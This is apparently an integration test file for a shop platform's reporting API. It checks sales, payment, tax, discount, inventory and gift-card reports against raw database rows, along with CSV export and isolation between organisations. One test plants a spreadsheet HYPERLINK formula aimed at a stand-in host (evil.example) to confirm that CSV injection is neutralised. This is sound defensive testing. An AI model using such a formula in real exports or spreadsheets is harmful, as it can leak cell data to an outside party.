import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import { systemContext } from '../../../src/platform/http/system-context.ts'
import { startTestApp, type TestApp } from '../../support/harness.ts'
import { openShop, payInFull, type Shop } from '../../support/shop.ts'

/** The local day of an instant in a time zone, by the platform's own calendar (not PostgreSQL's). */
const localDay = (at: string | number | Date, timeZone: string) =>
  new Intl.DateTimeFormat('en-CA', { timeZone, year: 'numeric', month: '2-digit', day: '2-digit' }).format(new Date(at))

const cents = (n: number) => Math.round(n * 100)

describe('reports add up to the orders, to the cent', () => {
  let app: TestApp
  let s: Shop
  const zones = { east: 'Pacific/Kiritimati', west: 'Pacific/Pago_Pago' } as const
  const locations: Record<string, string> = {}
  let categoryId: string
  let products: string[] = []

  before(async () => {
    app = await startTestApp()
    s = await openShop(app)
    // Two stores 25 hours apart: most of the time their local days differ, whatever the test's hour.
    for (const [name, timezone] of Object.entries(zones)) {
      const res = await s.api.post('/api/v1/locations', { name, timezone })
      assert.equal(res.status, 201, JSON.stringify(res.body))
      locations[name] = res.body.data.id
    }
    categoryId = (await s.api.post('/api/v1/categories', { name: 'Bakery' })).body.data.id
    products = [await s.product(3.35, { categoryId }), await s.product(12.99), await s.product(0.99, { categoryId })]
    await s.api.patch(`/api/v1/products/${products[0]}`, { cost: 1.1 })
    await s.api.patch(`/api/v1/products/${products[1]}`, { cost: 7.25 })
    for (const p of products)
      for (const loc of Object.values(locations)) {
        await s.api.post('/api/v1/inventory/adjust', {
          product_id: p,
          location_id: loc,
          quantity: 500,
          reason: 'received',
        })
      }
    await s.api.post('/api/v1/tax-rates', { name: 'GST', rate: 15 })
    await s.api.post('/api/v1/tax-rates', {
      name: 'Levy',
      rate: 2.5,
      applies_to: 'products',
      product_ids: [products[1]],
    })
    await s.api.post('/api/v1/campaigns', {
      name: 'Bakery 10%',
      rules: [{ type: 'percentage', percent: 10, target: 'line' }],
      conditions: { category_ids: [categoryId] },
      status: 'scheduled',
    })

    // A day of trade in both stores: card and cash, a split tender, refunds, a voided order and an open one.
    const sell = async (loc: string, lines: [number, number][], pay: 'card' | 'cash' | 'split' | 'none') => {
      const made = await s.api.post('/api/v1/orders', {
        location_id: loc,
        lines: lines.map(([p, quantity]) => ({ product_id: products[p], quantity })),
      })
      assert.equal(made.status, 201, JSON.stringify(made.body))
      const o = made.body.data
      if (pay === 'card') await payInFull(s.api, o.id, o.total)
      if (pay === 'cash' || pay === 'split') {
        const first = pay === 'split' ? Math.round((o.total / 2) * 100) / 100 : o.total
        await s.api.post('/api/v1/payments', { order_id: o.id, amount: first, method: 'cash', capture: true })
        if (pay === 'split') await payInFull(s.api, o.id, Math.round((o.total - first) * 100) / 100)
      }
      return (await s.api.get(`/api/v1/orders/${o.id}`)).body.data
    }
    const a = await sell(
      locations.east,
      [
        [0, 3],
        [1, 1],
      ],
      'card',
    )
    await sell(locations.east, [[2, 7]], 'cash')
    const c = await sell(
      locations.west,
      [
        [1, 2],
        [0, 1],
      ],
      'split',
    )
    await sell(locations.west, [[2, 1]], 'card')
    const voided = await sell(locations.west, [[0, 1]], 'none')
    await s.api.patch(`/api/v1/orders/${voided.id}/status`, { status: 'voided' })
    await sell(locations.east, [[1, 1]], 'none')
    const refundA = await s.api.post(`/api/v1/orders/${a.id}/refund`, {
      lines: [{ line_id: a.lines[0].id, quantity: 2 }],
    })
    assert.equal(refundA.status, 201, JSON.stringify(refundA.body))
    const refundC = await s.api.post(`/api/v1/orders/${c.id}/refund`, { amount: 5 })
    assert.equal(refundC.status, 201, JSON.stringify(refundC.body))
  })
  after(() => app.close())

  /** The raw facts, straight from the tables, to compare every report with. */
  async function raw<T>(sql: string): Promise<T[]> {
    const ctx = systemContext(app.runtime.database, s.merchant.orgId, [])
    return ctx.db.read(async (q) => (await q.query<T>(sql, [s.merchant.orgId])).rows)
  }
  const range = () => {
    const days = [localDay(Date.now() - 86_400_000 * 2, 'UTC'), localDay(Date.now() + 86_400_000 * 2, 'UTC')]
    return `from=${days[0]}&to=${days[1]}`
  }

  it('sales by day equal the completed orders on their local days, refunds on theirs', async () => {
    const orders = await raw<{
      completed_at: Date
      location_id: string
      subtotal: string
      discount_total: string
      tax_total: string
      total: string
    }>(
      'SELECT completed_at, location_id, subtotal, discount_total, tax_total, total FROM orders WHERE org_id = $1 AND completed_at IS NOT NULL',
    )
    const refunds = await raw<{ created_at: Date; location_id: string; amount: string }>(
      `SELECT f.created_at, o.location_id, f.amount FROM refunds f JOIN orders o ON o.org_id = f.org_id AND o.id = f.order_id
       WHERE f.org_id = $1 AND f.status = 'succeeded'`,
    )
    const zoneOf = (loc: string) => (loc === locations.east ? zones.east : zones.west)
    const expected = new Map<
      string,
      { orders: number; gross: number; discounts: number; tax: number; total: number; refunded: number }
    >()
    const at = (day: string) => {
      const row = expected.get(day) ?? { orders: 0, gross: 0, discounts: 0, tax: 0, total: 0, refunded: 0 }
      expected.set(day, row)
      return row
    }
    for (const o of orders) {
      const row = at(localDay(o.completed_at, zoneOf(o.location_id)))
      row.orders += 1
      row.gross += Number(o.subtotal)
      row.discounts += Number(o.discount_total)
      row.tax += Number(o.tax_total)
      row.total += Number(o.total)
    }
    for (const f of refunds) at(localDay(f.created_at, zoneOf(f.location_id))).refunded += Number(f.amount)
    const report = (await s.api.get(`/api/v1/reports/sales?group_by=day&${range()}`)).body.data
    assert.equal(report.currency, 'USD')
    const got = Object.fromEntries(
      report.rows.map(
        (r: {
          period: string
          orders: number
          gross_sales: number
          discounts: number
          tax: number
          total: number
          refunded: number
        }) => [
          r.period,
          {
            orders: r.orders,
            gross: cents(r.gross_sales),
            discounts: cents(r.discounts),
            tax: cents(r.tax),
            total: cents(r.total),
            refunded: cents(r.refunded),
          },
        ],
      ),
    )
    assert.deepEqual(got, Object.fromEntries([...expected].sort()))
    assert.equal(
      cents(report.totals.total),
      [...expected.values()].reduce((a, r) => a + r.total, 0),
    )
    assert.equal(report.totals.orders, 4)
    for (const r of report.rows) assert.equal(cents(r.net_sales), cents(r.total) - cents(r.tax))
  })

  it('sales by hour put each sale and refund in its local hour, and add up to the same totals', async () => {
    const localHour = (at: Date, timeZone: string) =>
      `${new Intl.DateTimeFormat('en-GB', { hour: '2-digit', hourCycle: 'h23', timeZone }).format(at)}:00`
    const zoneOf = (loc: string) => (loc === locations.east ? zones.east : zones.west)
    const orders = await raw<{ completed_at: Date; location_id: string; total: string }>(
      'SELECT completed_at, location_id, total FROM orders WHERE org_id = $1 AND completed_at IS NOT NULL',
    )
    const refunds = await raw<{ created_at: Date; location_id: string; amount: string }>(
      `SELECT f.created_at, o.location_id, f.amount FROM refunds f JOIN orders o ON o.org_id = f.org_id AND o.id = f.order_id
       WHERE f.org_id = $1 AND f.status = 'succeeded'`,
    )
    const expected = new Map<string, { orders: number; total: number; refunded: number }>()
    const at = (hour: string) => {
      const row = expected.get(hour) ?? { orders: 0, total: 0, refunded: 0 }
      expected.set(hour, row)
      return row
    }
    for (const o of orders) {
      const row = at(localHour(o.completed_at, zoneOf(o.location_id)))
      row.orders += 1
      row.total += Number(o.total)
    }
    for (const f of refunds) at(localHour(f.created_at, zoneOf(f.location_id))).refunded += Number(f.amount)
    const report = (await s.api.get(`/api/v1/reports/sales?group_by=hour&${range()}`)).body.data
    assert.equal(report.group_by, 'hour')
    const got = Object.fromEntries(
      report.rows.map((r: { period: string; orders: number; total: number; refunded: number }) => [
        r.period,
        { orders: r.orders, total: cents(r.total), refunded: cents(r.refunded) },
      ]),
    )
    assert.deepEqual(got, Object.fromEntries([...expected].sort()))
    const byDay = (await s.api.get(`/api/v1/reports/sales?${range()}`)).body.data.totals
    assert.deepEqual(report.totals, byDay)
  })

  it('sales by location, product, category and week add up to the same totals', async () => {
    const byDay = (await s.api.get(`/api/v1/reports/sales?${range()}`)).body.data.totals
    for (const by of ['week', 'month', 'location', 'product', 'category']) {
      const report = (await s.api.get(`/api/v1/reports/sales?group_by=${by}&${range()}`)).body.data
      assert.equal(cents(report.totals.total), cents(byDay.total), by)
      assert.equal(cents(report.totals.tax), cents(byDay.tax), by)
      assert.equal(
        report.rows.reduce((a: number, r: { total: number }) => a + cents(r.total), 0),
        cents(byDay.total),
        by,
      )
    }
    const lines = await raw<{ product_id: string; quantity: string; total: string }>(
      `SELECT l.product_id, sum(l.quantity) AS quantity, sum(l.line_total) AS total FROM order_lines l
       JOIN orders o ON o.org_id = l.org_id AND o.id = l.order_id
       WHERE l.org_id = $1 AND o.completed_at IS NOT NULL GROUP BY l.product_id`,
    )
    const products = (await s.api.get(`/api/v1/reports/sales?group_by=product&${range()}`)).body.data.rows
    assert.deepEqual(
      Object.fromEntries(
        products.map((r: { product_id: string; quantity: number; total: number }) => [
          r.product_id,
          [r.quantity, cents(r.total)],
        ]),
      ),
      Object.fromEntries(lines.map((l) => [l.product_id, [Number(l.quantity), Number(l.total)]])),
    )
    const categories = (await s.api.get(`/api/v1/reports/sales?group_by=category&${range()}`)).body.data.rows
    assert.deepEqual(categories.map((r: { name: string }) => r.name).sort(), ['Bakery', 'Uncategorised'])
  })

  it('payments by method, refunds, tax and discounts equal the raw payments, refunds, lines and redemptions', async () => {
    const payments = await raw<{ method: string; captured: string; refunded: string }>(
      `SELECT p.method, sum(p.amount) AS captured, COALESCE(sum((SELECT sum(r.amount) FROM payment_refunds r
         WHERE r.org_id = p.org_id AND r.payment_id = p.id)), 0) AS refunded
       FROM payments p WHERE p.org_id = $1 AND p.captured_at IS NOT NULL GROUP BY p.method ORDER BY p.method`,
    )
    const byMethod = (await s.api.get(`/api/v1/reports/payments?${range()}`)).body.data.rows
    assert.deepEqual(
      byMethod.map((r: { method: string; captured: number; refunded: number }) => [
        r.method,
        cents(r.captured),
        cents(r.refunded),
      ]),
      payments.map((p) => [p.method, Number(p.captured), Number(p.refunded)]),
    )
    const refunds = await raw<{ amount: string; n: string }>(
      "SELECT sum(amount) AS amount, count(*) AS n FROM refunds WHERE org_id = $1 AND status = 'succeeded'",
    )
    const refundReport = (await s.api.get(`/api/v1/reports/refunds?${range()}`)).body.data
    assert.equal(cents(refundReport.totals.amount), Number(refunds[0].amount))
    assert.equal(refundReport.totals.refunds, Number(refunds[0].n))
    const tax = await raw<{ rate: number; tax: string }>(
      `SELECT l.tax_rate_e4 AS rate, sum(l.line_tax) AS tax FROM order_lines l JOIN orders o ON o.org_id = l.org_id
       AND o.id = l.order_id WHERE l.org_id = $1 AND o.completed_at IS NOT NULL GROUP BY 1 ORDER BY 1`,
    )
    const taxReport = (await s.api.get(`/api/v1/reports/tax?${range()}`)).body.data.rows
    assert.deepEqual(
      taxReport.map((r: { tax_rate: string; tax: number }) => [r.tax_rate, cents(r.tax)]),
      tax.map((t) => [t.rate / 10_000, Number(t.tax)]),
    )
    const discounts = await raw<{ discount: string }>(
      'SELECT sum(discount_amount) AS discount FROM campaign_redemptions WHERE org_id = $1 AND released_at IS NULL',
    )
    const discountReport = (await s.api.get(`/api/v1/reports/discounts?${range()}`)).body.data
    assert.equal(discountReport.rows[0].name, 'Bakery 10%')
    assert.equal(cents(discountReport.totals.discount), Number(discounts[0].discount))
  })

  it('values the stock at cost and counts gift card and points balances outstanding', async () => {
    const inventory = (await s.api.get(`/api/v1/reports/inventory?location_id=${locations.east}`)).body.data
    const levels = await raw<{ product_id: string; on_hand: number }>(
      `SELECT product_id, on_hand FROM inventory_levels WHERE org_id = $1 AND location_id = '${locations.east}'`,
    )
    const onHand = new Map(levels.map((l) => [l.product_id, l.on_hand]))
    assert.equal(
      inventory.totals.value,
      Math.round((onHand.get(products[0])! * 1.1 + onHand.get(products[1])! * 7.25) * 100) / 100,
    )
    assert.equal(inventory.totals.items_without_cost, 1)
    await s.api.post('/api/v1/gift-cards', { initial_balance: 25 })
    await s.api.post('/api/v1/gift-cards', { initial_balance: 10.5 })
    const cards = (await s.api.get('/api/v1/reports/gift-cards')).body.data
    assert.deepEqual(cards.rows[0], { cards: 2, balance_outstanding: 35.5 })
    const loyalty = (await s.api.get('/api/v1/reports/loyalty')).body.data
    assert.deepEqual(loyalty.rows, [])
    assert.deepEqual(loyalty.totals, { members: 0, points_outstanding: 0, value: 0 })
  })

  it('answers CSV that a CSV parser reads back to the same rows, by Accept or by format', async () => {
    const json = (await s.api.get(`/api/v1/reports/sales?group_by=product&${range()}`)).body.data.rows
    for (const ask of [
      (url: string) => s.api.get(url, { accept: 'text/csv' }),
      (url: string) => s.api.get(`${url}&format=csv`),
    ]) {
      const res = await ask(`/api/v1/reports/sales?group_by=product&${range()}`)
      assert.equal(res.status, 200)
      assert.match(String(res.headers['content-type']), /^text\/csv/)
      assert.match(String(res.headers['content-disposition']), /attachment; filename="sales-product-/)
      const rows = parse(res.body as string, { columns: true, cast: true }) as Record<string, unknown>[]
      assert.deepEqual(
        rows.map((r) => ({ ...r, category_id: r.category_id === '' ? null : r.category_id })),
        json,
      )
    }
  })

  it('rebuilds the aggregates to the same figures, and refuses a bad range naming the field', async () => {
    const before = (await s.api.get(`/api/v1/reports/sales?${range()}`)).body.data
    await app.services.reports.rebuild(systemContext(app.runtime.database, s.merchant.orgId, ['reports:read']))
    const after = (await s.api.get(`/api/v1/reports/sales?${range()}`)).body.data
    assert.deepEqual(after, before)
    const bad = await s.api.get('/api/v1/reports/sales?from=2026-02-01&to=2026-01-01')
    assert.equal(bad.status, 422)
    assert.equal(bad.body.errors[0].field, 'from')
    const notADay = await s.api.get('/api/v1/reports/sales?from=yesterday')
    assert.equal(notADay.status, 400)
  })

  it('quotes a CSV cell a spreadsheet would run as a formula, and leaves numbers alone', async () => {
    // A product named like a formula came out as a live formula in the CSV before (OWASP "CSV injection").
    const shop = await openShop(app)
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    await shop.product(2.5, { name: formula, stock: 3 })
    await shop.product(1, { name: '-cola', stock: 2 })
    const res = await shop.api.get('/api/v1/reports/inventory?format=csv')
    assert.equal(res.status, 200)
    const rows = parse(res.body as string, { columns: true }) as Record<string, string>[]
    assert.deepEqual(rows.map((r) => r.name).sort(), [`'-cola`, `'${formula}`])
    assert.deepEqual(rows.map((r) => r.on_hand).sort(), ['2', '3'])
  })

  it('shows another org none of it', async () => {
    const other = await openShop(app)
    const report = (await other.api.get(`/api/v1/reports/sales?${range()}`)).body.data
    assert.deepEqual(report.rows, [])
    assert.equal(report.totals.total, 0)
    assert.deepEqual((await other.api.get('/api/v1/reports/gift-cards')).body.data.rows[0], {
      cards: 0,
      balance_outstanding: 0,
    })
  })
})
